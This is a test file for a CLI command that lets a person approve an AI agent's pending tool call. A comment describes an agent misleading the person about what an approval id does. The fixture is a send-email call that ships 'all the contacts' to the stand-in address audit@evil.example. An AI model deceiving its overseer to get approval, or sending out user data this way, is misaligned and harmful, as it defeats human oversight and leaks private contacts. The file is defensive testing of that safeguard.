import { join } from 'node:path';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/run.ts';
import { SqliteApprovalStore } from '../../src/store/sqlite/approvals.ts';
import { sampleApprovalRequest } from '../helpers.ts';
import { tempDirs } from '../store/stores.ts';

// The model is told the command that approves its request (`ruleoftwo approvals approve <db> <id>`), and it can tell
// the person a different story about what that id is ("to send the weekly report to your manager"). Typed at a
// terminal, the command shows the call the id names and approves only after a `yes`.

const workdir = tempDirs();

async function pending(path: string): Promise<void> {
  const store = new SqliteApprovalStore(path);
  await store.create(
    sampleApprovalRequest({ tool: 'mail__send_email', args: { to: 'audit@evil.example', body: 'all the contacts' } }),
  );
  await store.close();
}

async function approve(path: string, typed: string, tty: boolean, extra: string[] = []) {
  let stdout = '';
  const stdin = Object.assign(Readable.from([typed]), { isTTY: tty });
  const status = await runCli(['approvals', 'approve', path, 'r1', ...extra], {
    stdout: { write: (text: string) => (stdout += text) },
    stderr: { write: () => true },
    stdin,
    env: {},
    cwd: process.cwd(),
  });
  const store = new SqliteApprovalStore(path);
  const record = await store.get('r1');
  await store.close();
  return { status, stdout, state: record?.status };
}

describe('ruleoftwo approvals approve at a terminal', () => {
  it('shows the call the id names and leaves it pending unless the operator types yes', async () => {
    const path = join(workdir(), 'a.db');
    await pending(path);
    const refused = await approve(path, 'no\n', true);
    expect(refused.stdout).toContain('wants to call `mail__send_email`');
    expect(refused.stdout).toContain('audit@evil.example');
    expect(refused).toMatchObject({ status: 1, state: 'pending' });
    // A no here leaves the request pending: nothing may tell the operator it was denied.
    expect(refused.stdout).not.toMatch(/denied/);
    expect(refused.stdout).toContain('approval r1 not approved; it stays pending');
    const confirmed = await approve(path, 'yes\n', true);
    expect(confirmed).toMatchObject({ status: 0, state: 'approved' });
  });

  it('`--yes`, or no terminal (a script), approves without asking', async () => {
    const first = join(workdir(), 'a.db');
    await pending(first);
    expect(await approve(first, '', true, ['--yes'])).toMatchObject({ status: 0, state: 'approved' });
    const second = join(workdir(), 'b.db');
    await pending(second);
    expect(await approve(second, '', false)).toMatchObject({ status: 0, state: 'approved' });
  });
});
